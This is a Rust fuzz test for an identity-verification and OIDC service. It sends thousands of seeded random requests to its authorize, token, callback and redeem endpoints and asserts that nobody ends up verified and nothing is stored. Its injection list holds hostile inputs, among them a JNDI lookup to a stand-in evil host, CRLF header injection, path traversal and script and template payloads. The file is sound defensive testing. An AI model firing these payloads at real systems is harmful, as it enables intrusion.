//! Ten thousand requests of an attacker who tries whatever comes to mind, the same in every run.

use std::sync::Arc;

use reqwest::{Method, header};
use serde_json::json;

use crate::{
    handler::{API_KEY, CLIENT_SECRET, Handler, REDIRECT_URI},
    journey::Journey,
};

const STRANGERS: u64 = 16;
const REQUESTS_EACH: usize = 625;

/// Numbers that poll random and are the same in every run (SplitMix64).
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mixed = (self.0 ^ (self.0 >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        let mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        mixed ^ (mixed >> 31)
    }

    fn below(&mut self, bound: usize) -> usize {
        usize::try_from(self.next() % bound as u64).unwrap()
    }

    fn pick<'a, T>(&mut self, from: &'a [T]) -> &'a T {
        &from[self.below(from.len())]
    }

    fn bytes(&mut self) -> Vec<u8> {
        let length = *self.pick(&[0, 1, 3, 16, 40, 200, 3000]);
        (0..length).map(|_| self.next().to_le_bytes()[0]).collect()
    }

    /// The text with some of its bytes replaced, removed, doubled or put elsewhere: never the same text in another case.
    fn altered(&mut self, text: &str) -> Vec<u8> {
        let mut bytes = text.as_bytes().to_vec();
        for _ in 0..=self.below(3) {
            let at = self.below(bytes.len().max(1)).min(bytes.len().saturating_sub(1));
            match self.below(6) {
                0 => bytes.truncate(at),
                1 if !bytes.is_empty() => bytes[at] = self.next().to_le_bytes()[0],
                2 if !bytes.is_empty() => bytes[at] ^= 1 << self.below(8),
                3 => bytes.extend_from_slice(&bytes.clone()[at..]),
                4 => bytes.splice(at..at, self.pick(SPICE).bytes()).for_each(drop),
                _ => bytes.rotate_left(at),
            }
        }
        if bytes.eq_ignore_ascii_case(text.as_bytes()) { self.bytes() } else { bytes }
    }

    /// A piece for a form or a query: altered, from the list, or anything.
    fn value(&mut self, real: &[String]) -> Vec<u8> {
        match self.below(4) {
            0 => self.bytes(),
            1 => self.pick(SPICE).as_bytes().to_vec(),
            _ => {
                let real = self.pick(real).clone();
                self.altered(&real)
            }
        }
    }
}

const SPICE: &[&str] = &[
    "",
    "%00",
    "\0",
    "null",
    "true",
    "-1",
    "99999999999999999999",
    "1e999",
    "NaN",
    "../../",
    "..%2f",
    "'",
    "\"",
    "<script>",
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    "\r\nX-Evil: 1",
    "%0d%0a",
    "😀",
    "\u{202e}",
    "é",
    "[]",
    "{}",
    "[[[[[[[[",
    "{\"a\":",
    "&",
    "=",
    "&&==",
    ";",
    "a=b&a=c",
    "https://evil.example",
    "1970-01-01",
    "0000-00-00",
    "9999-12-31T23:59:60Z",
    "13/32/2026 25:61:61 PM",
];

/// What users that are on their way have in their addresses, bodies and cookies.
fn known(journeys: &[Journey], codes: &[String]) -> Vec<String> {
    let mut known: Vec<String> = codes.to_vec();
    for journey in journeys {
        known.extend([
            journey.id.clone(),
            journey.return_ticket.clone(),
            journey.callback_ticket.clone(),
            journey.execution.clone(),
            journey.cookie.split_once('=').unwrap().1.to_owned(),
            journey.object_id.clone(),
        ]);
    }
    known.extend(
        [CLIENT_SECRET, API_KEY, REDIRECT_URI, "b2c-contoso", "code", "openid", "query", "approved"]
            .map(str::to_owned),
    );
    known
}

const NAMES: [&str; 26] = [
    "client_id",
    "redirect_uri",
    "response_type",
    "scope",
    "response_mode",
    "nonce",
    "state",
    "verification_id",
    "cookie_check",
    "restart",
    "retry",
    "ui_locales",
    "code_challenge",
    "code_challenge_method",
    "request",
    "prompt",
    "grant_type",
    "code",
    "client_secret",
    "code_verifier",
    "later",
    "acquisitionStatus",
    "objectId",
    "verificationId",
    "ticket",
    "replaces",
];

fn encoded(bytes: &[u8]) -> String {
    bytes.iter().fold(String::new(), |text, byte| format!("{text}%{byte:02x}"))
}

fn pairs(random: &mut Random, known: &[String]) -> String {
    let mut pairs = vec![];
    // Some get as far as the checks of the real parameters.
    if random.below(2) == 0 {
        pairs.extend([
            "client_id=b2c-contoso".to_owned(),
            format!("redirect_uri={REDIRECT_URI}"),
            "response_type=code&scope=openid".into(),
        ]);
    }
    for _ in 0..random.below(8) {
        pairs.push(format!("{}={}", random.pick(&NAMES), encoded(&random.value(known))));
    }
    pairs.join("&")
}

fn document(random: &mut Random, known: &[String]) -> Vec<u8> {
    let text = |random: &mut Random| String::from_utf8_lossy(&random.value(known)).into_owned();
    let mut object = serde_json::Map::new();
    for _ in 0..random.below(8) {
        let name = (*random.pick(&[
            "objectId",
            "subject",
            "verificationId",
            "replaces",
            "ticket",
            "clientId",
            "locale",
            "givenName",
            "dateOfBirth",
            "consentObtained",
            "consentObtainedAt",
            "consentCountry",
            "userIp",
            "method",
            "correlationId",
            "workflowExecution",
            "verified",
        ]))
        .to_owned();
        let value = match random.below(6) {
            0 => json!({"id": text(random), "status": "PROCESSED"}),
            1 => json!([text(random)]),
            2 => json!(random.next()),
            3 => json!(null),
            _ => json!(text(random)),
        };
        object.insert(name, value);
    }
    let whole = serde_json::Value::Object(object).to_string();
    match random.below(4) {
        0 => random.altered(&whole),
        1 => random.bytes(),
        _ => whole.into_bytes(),
    }
}

/// An attacker without the key of a policy.
async fn bother(handler: &Handler, known: &[String], seed: u64) {
    let mut random = Random(seed);
    for _ in 0..REQUESTS_EACH {
        let ticket = encoded(&random.value(known));
        let query = pairs(&mut random, known);
        let (method, path) = match random.below(10) {
            0 => (Method::GET, format!("/api/authorize?{query}")),
            1 => (Method::GET, format!("/api/return/{ticket}?{query}")),
            2 => (Method::GET, format!("/api/continue/{ticket}?{query}")),
            3 => (Method::POST, "/api/status".to_owned()),
            4 => (Method::POST, "/api/token".to_owned()),
            5 => (Method::POST, "/api/callback/jumio".to_owned()),
            6 => (Method::POST, format!("/api/callback/jumio/{ticket}")),
            7 => (Method::POST, "/api/start".to_owned()),
            8 => (Method::POST, "/api/redeem".to_owned()),
            _ => (Method::GET, format!("/api/oidc/.well-known/{ticket}")),
        };
        let body = if random.below(2) == 0 { query.into_bytes() } else { document(&mut random, known) };
        let mut request = handler.http.request(method.clone(), handler.path(&path));
        if let Ok(cookie) =
            header::HeaderValue::from_bytes(&[b"verification=".as_slice(), &random.value(known)].concat())
        {
            request = request.header(header::COOKIE, cookie);
        }
        if let Ok(key) = header::HeaderValue::from_bytes(&random.value(known)) {
            request = request.header("x-verification-key", key);
        }
        let answer = request.body(body.clone()).send().await.unwrap();
        let what = format!("{method} {path} {}", String::from_utf8_lossy(&body));
        assert!(!answer.status().is_server_error(), "{}: {what}", answer.status());
        assert!(
            !answer
                .headers()
                .get(header::LOCATION)
                .is_some_and(|next| next.to_str().unwrap().contains("code=")),
            "{what}"
        );
        let said = answer.bytes().await.unwrap();
        let said = String::from_utf8_lossy(&said);
        assert!(!said.contains("\"verified\":true") && !said.contains("id_token\":"), "{what}: {said}");
    }
}

/// A policy that passes on whatever a user typed.
async fn pass_on(handler: &Handler, known: &[String], seed: u64) {
    let mut random = Random(seed);
    for _ in 0..40 {
        let body = document(&mut random, known);
        let path = *random.pick(&["/api/start", "/api/redeem"]);
        let request = handler.http.post(handler.path(path)).header("x-verification-key", API_KEY);
        let answer = request.body(body.clone()).send().await.unwrap();
        let what = format!("{path} {}", String::from_utf8_lossy(&body));
        assert!(!answer.status().is_server_error(), "{}: {what}", answer.status());
        let said = answer.text().await.unwrap();
        assert!(!said.contains("\"verified\":true"), "{what}: {said}");
    }
}

async fn all_at_once<F: Future<Output = ()> + Send + 'static>(make: impl Fn(u64) -> F) {
    let mut all = tokio::task::JoinSet::new();
    for seed in 0..STRANGERS {
        all.spawn(make(seed));
    }
    all.join_all().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ten_thousand_random_requests_make_nobody_verified_and_store_nothing() {
    let mut handler = Handler::start().await;
    let rejected = handler.decided("rejected", "fraud").await;
    let approved = handler.finished("approved", "pass").await;
    let waiting = handler.set_out("waiting").await;
    let code = handler
        .walk_back(handler.path(&format!("/api/continue/{}", rejected.return_ticket)), &rejected.cookie)
        .await;
    let journeys = [rejected, approved, waiting];
    let known = Arc::new(known(&journeys, &[code]));
    let stored = handler.stored_rows();
    handler.restart_with(&[]).await;

    let handler = Arc::new(handler);
    all_at_once(|seed| {
        let (handler, known) = (Arc::clone(&handler), Arc::clone(&known));
        async move { bother(&handler, &known, seed).await }
    })
    .await;

    let mut handler = Arc::into_inner(handler).unwrap();
    handler.assert_unharmed();
    for (journey, expected) in journeys.iter().zip(["rejected", "approved", "pending"]) {
        assert_eq!(handler.outcome(journey).await, expected);
    }
    assert_eq!(handler.simulator.counts().creates, 3, "no transaction was created");
    // Messages that were on their way may have arrived meanwhile.
    assert!(handler.stored_rows() <= stored, "something was stored");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn whatever_a_policy_passes_on_makes_nobody_verified() {
    let handler = Handler::start().await;
    let waiting = handler.set_out("waiting").await;
    let known = Arc::new(known(std::slice::from_ref(&waiting), &[]));
    let handler = Arc::new(handler);
    all_at_once(|seed| {
        let (handler, known) = (Arc::clone(&handler), Arc::clone(&known));
        async move { pass_on(&handler, &known, 1000 + seed).await }
    })
    .await;
    Arc::into_inner(handler).unwrap().assert_unharmed();
}
